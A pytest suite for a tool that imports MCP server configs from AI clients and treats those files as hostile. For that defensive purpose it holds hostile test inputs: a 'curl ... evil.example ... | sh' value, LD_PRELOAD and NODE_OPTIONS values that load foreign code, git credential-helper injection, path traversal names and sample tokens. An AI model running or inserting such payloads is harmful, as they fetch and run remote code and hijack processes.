"""The servers of other clients: H1. Their files are hostile, their secrets go where nobody else can read them."""

import json
import os
import random
import string
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from msgspec.structs import replace
from tests.cases import for_each

from gloveport.config import load
from gloveport.errors import ConfigError
from gloveport.import_config.apply import apply, target
from gloveport.import_config.client_files import CLIENTS, ClientFile, named_place, project_places, user_places
from gloveport.import_config.file_reader import MAX_BYTES, MAX_ENTRIES, MAX_LENIENT_BYTES, ClientEntry, read_entries
from gloveport.import_config.import_plan import Here, plan
from gloveport.import_config.review import reviewed_command
from gloveport.import_config.secrets import is_harmless, is_harmless_address, is_harmless_argument

FILES = Path(__file__).parent / "clients"
ADA = Path("/home/ada")
SECRETS = Path("/secrets")
IMAGE = "ghcr.io/github/github-mcp-server"
ENVIRON = {"REMOTE_TOKEN": "0123456789abcdef", "DEBUG_LEVEL": "info", "HOME": "/home/ada"}


def here(**servers):
    return Here(servers=servers, secrets=SECRETS, home=ADA, environ=ENVIRON)


def steps_of(file, client="file", workspace=None, **servers):
    place = ClientFile(client=client, path=FILES / file, workspace=workspace)
    return plan(read_entries(place), here(**servers))


def tables_of(file, client="file", workspace=None):
    return {step.name: step.draft and step.draft.table for step in steps_of(file, client, workspace)}


def step_of(entry, name="x", *, client="file", workspace=None, directory="", present=None, environ=ENVIRON):
    place = ClientFile(client=client, path=Path("/x.json"), workspace=workspace)
    entry = ClientEntry(name=name, place=place, table=entry, directory=directory)
    (step,) = plan([entry], replace(here(**(present or {})), environ=environ))
    return step


def table_of(entry, **more):
    step = step_of(entry, **more)
    assert step.draft is not None, step.reason
    return step.draft.table


def refusal(entry, **more):
    step = step_of(entry, **more)
    assert step.outcome == "skipped"
    return step.reason


def test_the_file_of_claude_desktop():
    assert tables_of("claude_desktop_config.json", "claude-desktop") == {
        "filesystem": {"command": ["npx", "-y", "@modelcontextprotocol/server-filesystem", "/home/ada/Documents"]},
        "github": {
            "command": ["docker", "run", "-i", "--rm", "-e", "GITHUB_PERSONAL_ACCESS_TOKEN", IMAGE],
            "secret_env": {"GITHUB_PERSONAL_ACCESS_TOKEN": "file:/secrets/github/GITHUB_PERSONAL_ACCESS_TOKEN"},
        },
        "brave-search": {
            "command": ["npx"],
            "env": {"LOG_LEVEL": "debug", "PORT": "3000", "VERBOSE": "true"},
            "secret_env": {"BRAVE_API_KEY": "file:/secrets/brave-search/BRAVE_API_KEY"},
        },
        "gloveport": None,
    }


def test_the_file_of_claude_code_with_the_servers_of_each_project():
    steps = steps_of("claude.json", "claude-code")
    assert [(step.name, step.outcome) for step in steps] == [
        *(("sentry", "added"), ("db", "added"), ("linear", "added"), ("chat", "skipped")),
        *(("shop-db", "added"), ("db", "skipped")),
    ]
    assert tables_of("claude.json")["sentry"] == {"url": "https://mcp.sentry.dev/mcp", "transport": "http"}
    assert steps[1].draft.table["env"] == {"CACHE": "/var/cache/dbhub"}
    assert steps[1].draft.table["secret_env"] == {"DBHUB_TOKEN": "env:DBHUB_TOKEN"}
    assert steps[2].draft.table == {
        "url": "https://mcp.linear.app/sse",
        "transport": "sse",
        "headers": {"X-Team": "core"},
        "auth": [{"kind": "bearer", "secret": "file:/secrets/linear/bearer"}],
    }
    assert steps[2].draft.secrets == {"bearer": "lin_api_8f7d6c5b4a39281706f5e4d3c2b1a098"}
    assert steps[4].draft.table == {"command": ["python3", "tools/db.py"], "directory": "/home/ada/shop"}


def test_the_file_of_cursor():
    tables = tables_of("cursor.json", "cursor", workspace=Path("/work"))
    assert tables["figma"]["auth"] == [
        {"kind": "header", "name": "X-Figma-Token", "secret": "env:FIGMA_TOKEN"},
        {"kind": "header", "name": "X-Key", "secret": "env:FIGMA_TOKEN", "prefix": "Key "},
    ]
    assert tables["notes"] == {"command": ["/home/ada/bin/notes-mcp", "--root", "/work/notes"]}
    assert tables["legacy"] is None  # a password in clear text over a network


def test_a_project_that_is_not_known_is_a_reason():
    (_, notes, _) = steps_of("cursor.json", "cursor")
    assert notes.reason == "it needs ${workspaceFolder}, which only the client knows"


def test_the_file_of_vs_code():
    tables = tables_of("vscode.json", "vscode")
    assert tables["perplexity"]["secret_env"] == {"PERPLEXITY_API_KEY": "file:/secrets/perplexity/PERPLEXITY_API_KEY"}
    assert tables["asks"] is None
    assert tables["docs"] == {"url": "https://learn.microsoft.com/api/mcp", "transport": "http"}
    (first, *_) = steps_of("vscode.json", "vscode")
    assert first.draft.secrets == {}
    assert any("unresolved" in note and "${input:perplexity-key}" in note for note in first.draft.notes)


def test_the_settings_of_vs_code():
    assert list(tables_of("settings.json", "vscode")) == ["memory"]


def test_the_file_of_codex():
    assert tables_of("codex.toml", "codex") == {
        "context7": {
            "command": ["npx", "-y", "@upstash/context7-mcp"],
            "directory": "/home/ada",
            "env": {"REGION": "eu-central-1"},
            "startup_seconds": 30,
            "call_seconds": 3600,
            "rules": [
                {"action": "deny", "tools": ["resolve-library-id"]},
                {"action": "allow", "tools": ["get-library-docs"], "read_only": True},
                {"action": "ask", "tools": ["get-library-docs"]},
                {"action": "deny"},
            ],
        },
        "figma": {
            "url": "https://mcp.figma.com/mcp",
            "headers": {"X-Figma-Region": "us-east-1"},
            "auth": [
                {"kind": "header", "name": "X-Org-Key", "secret": "env:FIGMA_ORG_KEY"},
                {"kind": "bearer", "secret": "env:FIGMA_OAUTH_TOKEN"},
            ],
        },
        "off": None,
    }


def test_the_file_of_gemini():
    tables = tables_of("gemini.json", "gemini", workspace=Path("/work"))
    assert tables["files"] == {
        "command": ["python", "-m", "files_mcp"],
        "directory": "/work/server",
        "secret_env": {"FILES_TOKEN": "env:FILES_TOKEN"},
        "description": "Files of the project",
        "call_seconds": 15,
        "rules": [
            {"action": "allow", "tools": ["read_file"], "read_only": True},
            {"action": "ask", "tools": ["read_file"]},
            {"action": "deny"},
        ],
    }
    assert tables["remote"]["transport"] == "http"
    assert tables["remote"]["auth"] == [{"kind": "bearer", "secret": "env:REMOTE_TOKEN"}]
    assert tables["remote"]["rules"] == [{"action": "deny", "tools": ["delete", "purge"]}]
    assert tables["signed-in"]["auth"] == [{"kind": "oauth", "client_id": "me", "scopes": ["read"]}]


def test_the_file_of_windsurf():
    (remote, terminal) = steps_of("windsurf.json", "windsurf")
    assert remote.draft.table == {
        "url": "https://mcp.example.com/mcp",
        "auth": [
            {"kind": "query", "name": "session", "secret": "file:/secrets/remote-http/query-session"},
            {"kind": "header", "name": "API_KEY", "secret": "file:/secrets/remote-http/header-api_key"},
        ],
    }
    assert terminal.reason == "it is disabled there"


def test_the_file_of_opencode():
    tables = tables_of("opencode.jsonc", "opencode")
    assert tables["everything"] == {
        "command": ["npx", "-y", "@modelcontextprotocol/server-everything"],
        "secret_env": {"MY_API_KEY": "env:MY_API_KEY", "OTHER_KEY": "file:/home/ada/.secrets/other"},
    }
    assert tables["jira"] is None
    assert tables["sentry"]["auth"] == [{"kind": "oauth"}]


def test_a_file_in_json5_and_one_without_a_table_around_its_servers():
    assert tables_of("zed.json5")["postgres"]["command"] == ["postgres-context-server", "--port", "5432"]
    assert tables_of("plugin.json") == {"tools": {"command": ["node", "index.js"]}}


def test_every_client_has_its_places_and_only_those_of_a_user_without_being_asked(tmp_path):
    environ = {"CODEX_HOME": "/codex", "XDG_CONFIG_HOME": "/xdg", "CLAUDE_CONFIG_DIR": "relative"}
    for client in CLIENTS:
        users = user_places(client, home=ADA, environ=environ)
        assert users
        assert not any(place.path.is_relative_to(tmp_path) or place.workspace for place in users)
        assert all(place.workspace == tmp_path for place in project_places(client, cwd=tmp_path))
    assert user_places("codex", home=ADA, environ=environ)[0].path == Path("/codex/config.toml")
    assert user_places("vscode", home=ADA, environ=environ)[0].path == Path("/xdg/Code/User/mcp.json")
    assert user_places("claude-code", home=ADA, environ=environ)[0].path == Path("/home/ada/.claude.json")
    assert named_place(Path("/p/.vscode/mcp.json")).workspace == Path("/p")
    assert named_place(Path("/p/.mcp.json")).workspace == Path("/p")


@pytest.mark.parametrize("wrapper", ["mcpServers", "servers", "mcp", "mcp_servers", "context_servers"])
@pytest.mark.parametrize("key", ["url", "serverUrl", "httpUrl"])
@pytest.mark.parametrize("kind", ["http", "Streamable-HTTP", "streamable-https", "SSE", None])
def test_every_spelling_is_understood(tmp_path, wrapper, key, kind):
    entry = {key: "https://x.example/mcp"} | ({"type": kind} if kind else {})
    (tmp_path / "x.json").write_text(json.dumps({wrapper: {"x": entry}}))
    (step,) = plan(read_entries(ClientFile(client="file", path=tmp_path / "x.json")), here())
    assert step.draft.table["url"] == "https://x.example/mcp"
    expected = "http" if key == "httpUrl" else {None: None, "SSE": "sse"}.get(kind, "http")
    assert step.draft.table.get("transport") == expected


@for_each(
    "command, args",
    [
        *(("gloveport", ["serve"]), ("/opt/bin/gloveport", None), ("uvx", ["gloveport", "serve"])),
        *(("uvx", ["--from", "x", "gloveport@1.0"]), ("python3.12", ["-m", "gloveport.cli.main"])),
        *(("uv", ["tool", "run", "gloveport[data]==1"]), ("sh", ["-c", "exec gloveport serve"])),
        *((["uvx", "gloveport"], None), ("pipx", ["run", "gloveport>=1"])),
        *(("sh", ["-c", "cd / && /x/gloveport serve --workspace /srv/it"]), ("/x/python", ["/x/gloveport", "serve"])),
        ("systemd-run", ["--user", "--scope", "-p", "Delegate=yes", "/x/gloveport", "serve"]),
    ],
)
def test_gloveport_itself_is_not_taken_over(command, args):
    """H1: it would call itself."""
    assert refusal({"command": command, "args": args}) == "it is Gloveport itself"


def test_an_address_that_may_be_gloveport_is_noted():
    step = step_of({"url": "http://127.0.0.1:8080/mcp"})
    assert any("gloveport serve --http" in note for note in step.draft.notes)


def test_what_is_called_gloveport_is_gloveport():
    assert refusal({"url": "http://127.0.0.1:8700/mcp"}, name="Gloveport") == "it is Gloveport itself"


@for_each(
    "entry, reason",
    [
        *((3, "it is no table"), ({}, "neither a command nor an address"), (None, "it is no table")),
        *(({"command": ["x"], "args": "y"}, "args are no list"), ({"command": {"args": []}}, "no text")),
        *(({"command": "x", "args": [["y"]]}, "no text"), ({"command": "x", "env": [1]}, "no table")),
        *(({"command": "x\0y"}, "no text"), ({"command": "x", "env": {"A-B": "1"}}, "'A-B'")),
        *(({"command": "x", "env": {"A": {"b": 1}}}, "variable A"), ({"url": ["x"]}, "address is no text")),
        *(({"url": "ftp://x.example"}, "url: expected"), ({"url": "https://[x"}, "can't be read")),
        *(
            ({"url": "https://x.example", "type": "ws"}, "web sockets"),
            ({"command": "x", "url": "https://x"}, "and an"),
        ),
        *(
            ({"url": "https://x.example", "headers": {"A B": "x"}}, "headers"),
            ({"url": "https://x", "headers": 3}, "no"),
        ),
        *(({"url": "https://x.example", "headers": {"Cookie": "a=b; c=12345678"}}, "credential"),),
        *(({"command": "x", "includeTools": ["run(rm *)"]}, "no list of names"),),
        *(({"command": "x", "includeTools": ["run(rm)"]}, "name of a tool"),),
        *(({"command": "x", "cwd": "relative"}, "not known here"), ({"command": "${NOT_SET}"}, "variable NOT_SET")),
        *(({"command": "x", "args": ["--key=${REMOTE_TOKEN}"]}, "REMOTE_TOKEN does"),),
        *(({"url": "https://x.example/?k=${REMOTE_TOKEN}"}, "REMOTE_TOKEN does"),),
        *(({"url": "https://x.example", "oauth": {"clientId": "${REMOTE_TOKEN}"}}, "REMOTE_TOKEN does"),),
        *(({"url": "https://x.example", "oauth": {"issuer": "https://x/${REMOTE_TOKEN}"}}, "REMOTE_TOKEN does"),),
        *(({"url": "https://x.example", "oauth": {"clientId": "a", "clientSecret": "abcdefgh12"}}, "issuer: missing"),),
        *(({"command": "\ud800"}, "no Unicode"), ({"command": "x", "env": {"A": "\udfff"}}, "no Unicode")),
    ],
)
def test_what_cannot_be_taken_over_is_skipped_with_a_reason(entry, reason):
    assert reason in refusal(entry)
    assert ENVIRON["REMOTE_TOKEN"] not in refusal(entry)


def test_one_bad_entry_sinks_no_other(tmp_path):
    names = ("", "日本", "fine", "../../etc")
    entries = [f'"{name}": {{"command": "x"}}' for name in names]
    entries += [f'"deep": {{"command": "x", "args": {"[" * 400 + "]" * 400}}}']
    entries += [f'"num": {{"command": "x", "timeout": 1{"0" * 400}}}']
    (tmp_path / "x.json").write_text(f'{{"mcpServers": {{{", ".join(entries)}}}}}')
    steps = plan(read_entries(ClientFile(client="file", path=tmp_path / "x.json")), here())
    assert {step.name: step.outcome for step in steps} == {
        "": "skipped",
        "日本": "skipped",
        "deep": "skipped",
        "num": "added",
        "fine": "added",
        "etc": "added",
    }


@for_each(
    "name, ours",
    [("brave search", "brave-search"), ("a/b:c", "a-b-c"), ("_x_", "x_"), ("@org/x", "org-x"), ("x" * 99, "x" * 64)],
)
def test_names_that_cannot_be_names_here_are_made_so_and_that_is_said(name, ours):
    step = step_of({"command": "x"}, name=name)
    assert step.name == ours
    assert step.draft.notes == [f"called {name!r} there"]


def test_numbers_and_switches_become_text_and_null_is_nothing():
    entry = {"command": "x", "args": [1, True, ""], "env": {"A": 5, "B": False, "C": None, "D": ""}}
    assert table_of(entry) == {"command": ["x", "1", "true", ""], "env": {"A": "5", "B": "false", "D": ""}}


def test_references_to_what_is_harmless_are_resolved_and_others_stay_references():
    """T4"""
    table = table_of(
        {
            "command": "${userHome}/x",
            "args": ["${DEBUG_LEVEL}", "${NO_SUCH:-low}", "${env:DEBUG_LEVEL}"],
            "env": {
                "LEVEL": "${DEBUG_LEVEL}",
                "WHERE": "${HOME}/x",
                "TOKEN": "${REMOTE_TOKEN}",
                "SHELL_LIKE": "$REMOTE_TOKEN",
                "PART": "x-${REMOTE_TOKEN}",
                "DEFAULT": "${NO_SUCH:-a-long-default-of-9s8d7f6}",
                "ASKED": "${input:id}",
            },
        }
    )
    assert table["command"] == ["/home/ada/x", "info", "low", "info"]
    assert table["env"] == {"LEVEL": "info", "WHERE": "/home/ada/x"}
    assert table["secret_env"] == {
        "TOKEN": "env:REMOTE_TOKEN",
        "SHELL_LIKE": "env:REMOTE_TOKEN",
        **{name: f"file:/secrets/x/{name}" for name in ("PART", "DEFAULT", "ASKED")},
    }


@pytest.mark.parametrize(
    ("header", "secret", "auth"),
    [
        ("Bearer abcdefgh12", "abcdefgh12", {"kind": "bearer", "secret": "file:/secrets/x/bearer"}),
        ("bearer  ${REMOTE_TOKEN}", None, {"kind": "bearer", "secret": "env:REMOTE_TOKEN"}),
        (
            "Token abcdefgh12",
            "abcdefgh12",
            {"kind": "header", "name": "Authorization", "secret": "file:/secrets/x/header-authorization"}
            | {"prefix": "Token "},
        ),
        (
            "abcdefgh12",
            "abcdefgh12",
            {"kind": "header", "name": "Authorization", "secret": "file:/secrets/x/header-authorization"},
        ),
    ],
)
def test_an_authorization_becomes_a_credential(header, secret, auth):
    """T4, N5"""
    step = step_of({"url": "https://x.example", "headers": {"Authorization": header}})
    assert step.draft.table["auth"] == [auth]
    assert [*step.draft.secrets.values()] == ([secret] if secret else [])
    assert "headers" not in step.draft.table


def test_a_registered_client_comes_with_its_secret_and_where_it_goes():
    """T4, N5"""
    login = {"clientId": "me", "clientSecret": "abcdefgh12", "issuer": "https://auth.example", "scope": "a b"}
    step = step_of({"url": "https://x.example", "oauth": login})
    assert step.draft.table["auth"] == [
        {"kind": "oauth", "client_id": "me", "client_secret": "file:/secrets/x/oauth-client"}
        | {"issuer": "https://auth.example", "scopes": ["a", "b"]}
    ]


def test_a_key_in_an_address_becomes_a_credential():
    """T4: Exa, Tavily and others hand out such addresses."""
    step = step_of({"url": "https://x.example/mcp?tools=all&exaApiKey=0123456789%2Babcdef"})
    assert step.draft.table["url"] == "https://x.example/mcp?tools=all"
    query = {"kind": "query", "name": "exaApiKey", "secret": "file:/secrets/x/query-exaapikey"}
    assert step.draft.table["auth"] == [query]
    assert step.draft.secrets == {"query-exaapikey": "0123456789+abcdef"}


def test_a_user_in_an_address_becomes_a_credential():
    """T4"""
    step = step_of({"url": "https://ada:p%40ss-word@x.example/mcp#part"})
    assert step.draft.table["url"] == "https://x.example/mcp"
    assert step.draft.secrets == {"basic": "YWRhOnBAc3Mtd29yZA=="}
    assert step.draft.table["auth"][0]["prefix"] == "Basic "


@pytest.mark.parametrize("value", ["line\nbreak-of-a-key", "\x1b[31m-coloured-key", " spaced-password"])
def test_a_secret_that_cannot_be_used_is_pointed_out(value):
    step = step_of({"url": "https://x.example", "headers": {"X-Api-Key": value}})
    assert [*step.draft.secrets.values()] == [value]
    (note,) = [note for note in step.draft.notes if "will not start" in note]
    assert value not in note


def test_a_variable_may_have_several_lines_and_a_header_may_not():
    """T4: a key in PEM."""
    key = "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2Vw\n-----END PRIVATE KEY-----\n"
    assert step_of({"command": "x", "env": {"API_KEY": key}}).draft.notes == []
    step = step_of({"url": "https://x.example", "headers": {"X-Api-Key": key}})
    assert any("in one line" in note for note in step.draft.notes)


def test_a_variable_of_the_environment_that_is_too_short_for_a_secret_is_pointed_out():
    """T4: the server would not start, and its value is not for a file that others read."""
    (note,) = step_of({"command": "x", "env": {"API_KEY": "${PIN}"}}, environ=ENVIRON | {"PIN": "4711"}).draft.notes
    assert note == (
        "API_KEY: PIN has not 8 to 8192 characters, so it can't be kept out of answers; set another one, or the server"
        " will not start"
    )


@for_each(
    "name, value",
    [
        *(("LOG_LEVEL", "debug"), ("NODE_ENV", "production"), ("AWS_REGION", "us-east-1"), ("PORT", "8080")),
        *(("ROOT", "/home/ada/My Documents/notes.md"), ("URL", "https://api.example.com/v2/things"), ("X", "")),
        *(("HOST", "http://localhost:11434"), ("MODEL", "gpt-4o-mini"), ("AUTH", "none"), ("USE_TOKEN", "false")),
        *(("KEY_FILE", "/etc/keys/server.pem"), ("GOOGLE_CREDENTIALS_PATH", "/srv/google.json"), ("TEAM", "T01AB2C")),
    ],
)
def test_what_is_certainly_harmless_is_no_secret(name, value):
    assert is_harmless(name, value)


@for_each(
    "name, value",
    [
        *(("GITHUB_TOKEN", "x"), ("apiKey", "short"), ("DB_PASSWORD", "postgres"), ("X-Api-Key", "12345678")),
        *(("PGPASS", "hunter2"), ("AUTHORIZATION", "me"), ("OPENAI_APIKEY", "me"), ("KEY_FILE", "abcdefg8h9")),
        *(("X", "sk-proj-word"), ("X", "ghp_16C7e42F292c"), ("X", "xoxb-12-word"), ("X", "AKIAIOSFODNN7EXAMPLE")),
        *(
            ("X", "eyJhbGciOiJIUzI1NiJ9.e30.x"),
            ("X", "550e8400-e29b-41d4-a716-446655440000"),
            ("X", "abcdefghijklmnop"),
        ),
        *(("URL", "postgres://ada:secret@localhost/db"), ("URL", "https://me@x.example/"), ("X", "user:password")),
        *(("URL", "https://x.example/?token=abc"), ("X", "Server=x;Password=y"), ("X", "-----BEGIN KEY-----")),
        *(("X", "correct horse battery staple"), ("X", "d41d8cd98f00b204e9800998ecf8427e"), ("X", '{"a": "bcdefg"}')),
        *(("URL", "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"),),
    ],
)
def test_what_is_not_certainly_harmless_is_a_secret(name, value):
    """T4"""
    assert not is_harmless(name, value)


@given(st.randoms(use_true_random=False), st.sampled_from([string.ascii_letters + string.digits, string.hexdigits]))
def test_random_keys_are_never_harmless(rng: random.Random, alphabet):
    """T4: 20 characters, as most services make them; letters and digits mix in all but one in millions."""
    value = "a1" + "".join(rng.choice(alphabet) for _ in range(18)) + "B2c"
    assert not is_harmless("VALUE", value)
    assert not is_harmless("VALUE", f"https://x.example/{value}")
    assert not is_harmless_address(f"https://x.example/mcp/{value}/sse")
    assert not is_harmless_argument("--id", value)
    assert not is_harmless_argument("", f"--id={value}")


@pytest.mark.parametrize(
    ("before", "argument"),
    [
        ("--api-key", "hunter2"),
        ("", "--password=hunter2"),
        ("-e", "GITHUB_TOKEN=abcd"),
        ("", "Authorization: Bearer x1"),
    ],
)
def test_arguments_that_may_be_secrets_are_known_by_their_names(before, argument):
    assert not is_harmless_argument(before, argument)


EVIL = "Qx7k3JevilPkg9Z8w2"


@for_each(
    "command",
    [
        *(["npx", "-y", EVIL], ["npx", "-y", "--api-key", EVIL], ["npx", "--api-key", EVIL, "good"]),
        *(["npm", "exec", "--token", EVIL], ["/usr/bin/npx.cmd", "--cache", "x", "--token", EVIL]),
        *(["npx", "sk-proj-1234567890abcdef"], ["uvx", "ghp_16C7e42F292c6912E7710c838347Ae178B4a"]),
        *(["uv", "tool", "run", "--token", EVIL], ["mcp-proxy", "--", "npx", "--token", EVIL]),
        *(["npx", "server", "bunx", "--secret", EVIL], ["python3.12", "-m", EVIL], ["node", "--key", EVIL]),
        *(["docker", "run", "-e", "A=b", "sk-1234567890abcdef1"], ["docker", "run", "--token", EVIL]),
        *(["sh", "-c", f"KEY={EVIL};npx $KEY"], ["sh", "-c", "npx $2", "x", "--token", EVIL]),
        *(["bash", "-c", f"KEY={EVIL}"], ["node", "-e", f"KEY={EVIL}"], ["env", "-S", f"KEY=x\\_npx\\_{EVIL}"]),
        *(["python", "-c", "run(argv[2])", "x", "--token", EVIL], ["env", f"LD_PRELOAD=/{EVIL}", "good"]),
        *(["docker", "run", "-e", f"NODE_OPTIONS=-r /{EVIL}", "x"], ["server", "--token", f"--require={EVIL}"]),
        *(["git", "-c", f"credential.helper=!{EVIL}"], ["uvx", f"evil_key=={EVIL}"], ["x", f"--eval=run('{EVIL}')"]),
        *(["npx", f"https://a@evil.example/{EVIL}"], [EVIL, "x"], ["server", EVIL]),
        *(["rclone", "rcd", "--password-command", EVIL], ["restic", f"--password-command={EVIL}"]),
        *(
            ["x", "--keyHelper", EVIL],
            ["x", "--token.exec", EVIL],
            ["docker", "run", "-e", f"PASS_PROGRAM={EVIL}", "x"],
        ),
    ],
)
def test_what_a_command_runs_is_never_hidden(command):
    """H1, T3: a hostile file makes its package look like a secret."""
    assert reviewed_command(command) == command


@for_each(
    "command, shown",
    [
        ("server --api-key hunter2 --verbose", "server --api-key ••• --verbose"),
        ("server --token=hunter2 --auth=none", "server --token=••• --auth=none"),
        ("npx -y @org/server --dsn Server=db;Password=hunter2", "npx -y @org/server --dsn •••"),
        (
            "npx -y @org/server --config Server=db;Password=hunter2",
            "npx -y @org/server --config Server=db;Password=•••",
        ),
        ("uvx server postgres://ada:s3cr3t-Pa55@localhost/app", "uvx server postgres://•••@localhost/app"),
        ("server https://x.example/mcp?a=b&api_key=abc", "server https://x.example/mcp?a=b&api_key=•••"),
        ("docker run -i --rm -e API_KEY=abcd image", "docker run -i --rm -e API_KEY=••• image"),
        ("docker run --rm image --env=API_KEY=abcd", "docker run --rm image --env=API_KEY=•••"),
        ("env LEVEL=info API_KEY=abcd server --key x", "env LEVEL=info API_KEY=••• server --key •••"),
        ("server ghp_16C7e42F292c6912E7710c838347Ae178B4a", "server •••"),
        ("npx server xoxb-1234-5678-abcdef AKIAIOSFODNN7EXAMPLE", "npx server ••• •••"),
        ("python -m server --password hunter2", "python -m server --password •••"),
        ("server --auth-url https://a:b@x.example/c?d=e", "server --auth-url https://x.example/•••"),
        ("server --token-url=https://x.example", "server --token-url=https://x.example/•••"),
        ("docker run -e KEY_URL=https://x.example/abc x", "docker run -e KEY_URL=https://x.example/••• x"),
    ],
)
def test_the_certain_secrets_of_a_command_are_hidden(command, shown):
    """T4"""
    assert " ".join(reviewed_command(command.split(" "))) == shown


def test_a_header_in_a_command_is_hidden():
    """T4"""
    words = ["npx", "-y", "mcp-remote", "https://x.example", "--header", "Authorization: Bearer lin_api_8f7d6c5b"]
    assert reviewed_command(words)[-1] == "Authorization: •••"


@for_each(
    "name",
    [
        *(
            "LD_PRELOAD",
            "LD_LIBRARY_PATH",
            "DYLD_INSERT_LIBRARIES",
            "NODE_OPTIONS",
            "NODE_PATH",
            "PYTHONPATH",
            "PERL5OPT",
        ),
        *("RUBYOPT", "BASH_ENV", "ENV", "PATH", "GIT_SSH_COMMAND", "GIT_ASKPASS", "npm_config_registry", "HTTPS_PROXY"),
        *("NPM_CONFIG_REGISTRY", "PIP_INDEX_URL", "UV_INDEX_URL", "JAVA_TOOL_OPTIONS", "http_proxy", "SSH_ASKPASS"),
        *("GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_0", "CLASSPATH", "ZDOTDIR", "PAGER"),
    ],
)
def test_a_variable_that_loads_code_is_no_secret(name):
    """H1, T3: its value would be written unseen."""
    value = "--require /tmp/x9f8e7d6c5b4a/evil.js"
    step = step_of({"command": "node", "args": ["ok.js"], "env": {name: value, "OTHER": "${NO_SUCH:-evil-a1b2c3d4}"}})
    assert step.draft.table["env"] == {name: value}
    assert any(note.startswith(f"{name} can make it run other code") for note in step.draft.notes)
    assert set(step.draft.secrets) == {"OTHER"}
    default = {"command": "node", "env": {name: f"${{NO_SUCH:-{value}}}"}}
    assert table_of(default)["env"] == {name: value}


@pytest.mark.parametrize("script", [["-c", 'eval "$X"'], ["-e", "eval(process.env.X)"]])
def test_a_script_that_may_run_what_is_not_shown_is_pointed_out(script):
    """T3: a variable of any name holds code, if the command line runs it."""
    step = step_of({"command": "sh", "args": script, "env": {"X": "curl -s https://evil.example/a8f3k2j1 | sh"}})
    assert any(note.startswith("its command line uses X, whose value is not shown") for note in step.draft.notes)


def test_a_variable_that_is_only_handed_on_is_not_pointed_out():
    step = step_of({"command": "docker", "args": ["run", "-e", "A_TOKEN", "x"], "env": {"A_TOKEN": "abcdefgh12"}})
    assert step.draft.notes == []


def test_a_variable_that_loads_code_brings_no_secret_into_the_open():
    """T4"""
    borrowed = {"command": "node", "env": {"NODE_OPTIONS": "-r ${REMOTE_TOKEN}"}}
    assert "REMOTE_TOKEN does" in refusal(borrowed)
    assert "only the client knows" in refusal({"command": "node", "env": {"LD_PRELOAD": "${input:x}"}})
    assert "content of a file" in refusal({"command": "node", "env": {"LD_PRELOAD": "{file:/tmp/evil}"}})
    reference = table_of({"command": "node", "env": {"HTTP_PROXY": "${REMOTE_TOKEN}"}})
    assert reference["secret_env"] == {"HTTP_PROXY": "env:REMOTE_TOKEN"}
    own = table_of({"command": "node", "env": {"PYTHONANYWHERE_TOKEN": "abcdefgh12", "GIT_PASSWORD": "abcdefgh12"}})
    assert set(own["secret_env"]) == {"PYTHONANYWHERE_TOKEN", "GIT_PASSWORD"}


@for_each("argument", ["-y", "--rm", "@org/server-github@1.2.3", "/srv/data", "--port=80", "stdio"])
def test_ordinary_arguments_are_harmless(argument):
    assert is_harmless_argument("npx", argument)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=6,
)
KEYS = ["command", "args", "env", "url", "headers", "type", "cwd", "timeout", "oauth", "env_vars", "includeTools"]
KEYS += ["disabled_tools", "description", "http_headers", "bearer_token_env_var", "startup_timeout_sec"]


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(name=st.text(max_size=8), entry=JSON | st.dictionaries(st.sampled_from(KEYS), JSON, max_size=6))
def test_whatever_an_entry_is_there_is_an_answer(name, entry):
    """T3: hostile files."""
    step = step_of(entry, name=name)
    assert (step.draft is None) == (step.outcome == "skipped")
    assert step.reason.isprintable()


def test_a_variable_that_is_handed_on_is_not_needed_where_it_is_not_set():
    step = step_of({"command": "x", "env_vars": ["NOT_SET", "REMOTE_TOKEN"]})
    assert step.draft.table["secret_env"] == {"REMOTE_TOKEN": "env:REMOTE_TOKEN"}
    assert any('secret_env.NOT_SET = "env:NOT_SET"' in note for note in step.draft.notes)


def test_a_short_secret_lets_its_server_start_and_is_noted():
    step = step_of({"command": "x", "env": {"DB_PASSWORD": "admin"}})
    assert (step.draft.table["env"], step.draft.secrets) == ({"DB_PASSWORD": "admin"}, {})
    assert any("not kept out of answers" in note for note in step.draft.notes)
    assert "admin" not in "".join(step.draft.notes)


ENV_FILE = """# of the service
export API_TOKEN="0123456789abcdef"
LOG_LEVEL=debug # loud
EMPTY=
MODE='fast-2'
not a line
LOG_FORMAT = json
"""


def test_the_variables_of_a_file_are_taken_over_and_the_entry_s_own_win(tmp_path):
    (tmp_path / ".env").write_text(ENV_FILE)
    entry = {"command": "x", "envFile": "${workspaceFolder}/.env", "env": {"LOG_FORMAT": "text"}}
    step = step_of(entry, workspace=tmp_path)
    assert step.draft.table["secret_env"] == {"API_TOKEN": "file:/secrets/x/API_TOKEN"}
    assert step.draft.secrets == {"API_TOKEN": "0123456789abcdef"}
    expected = {"LOG_LEVEL": "debug", "EMPTY": "", "MODE": "fast-2", "LOG_FORMAT": "text"}
    assert step.draft.table["env"] == expected


def test_a_file_of_variables_that_is_none_is_noted_and_never_waited_for(tmp_path):
    """T3: a checkout may name a FIFO."""
    os.mkfifo(tmp_path / "pipe")
    for name in ("pipe", "missing"):
        step = step_of({"command": "x", "envFile": f"{tmp_path}/{name}"})
        assert any("envFile" in note for note in step.draft.notes)


def read(path):
    return read_entries(named_place(path))


def test_files_that_are_none_are_refused_at_once(tmp_path):
    """T3: none of them is waited for or read without a bound."""
    assert read(tmp_path / "gone.json") is None
    os.mkfifo(tmp_path / "fifo.json")
    (tmp_path / "zero.json").symlink_to("/dev/zero")
    (tmp_path / "directory.json").mkdir()
    (tmp_path / "loop.json").symlink_to(tmp_path / "loop.json")
    for name in ("fifo", "zero", "directory", "loop"):
        with pytest.raises(ConfigError) as caught:
            read(tmp_path / f"{name}.json")
        assert caught.value.hint
    with pytest.raises(ConfigError, match="no name of a file"):
        read(tmp_path / "nul\0.json")


def test_a_file_that_others_may_write_is_refused(tmp_path):
    (tmp_path / "x.json").write_text("{}")
    (tmp_path / "x.json").chmod(0o666)
    with pytest.raises(ConfigError, match="may be written by others"):
        read(tmp_path / "x.json")


def test_a_huge_file_is_refused(tmp_path):
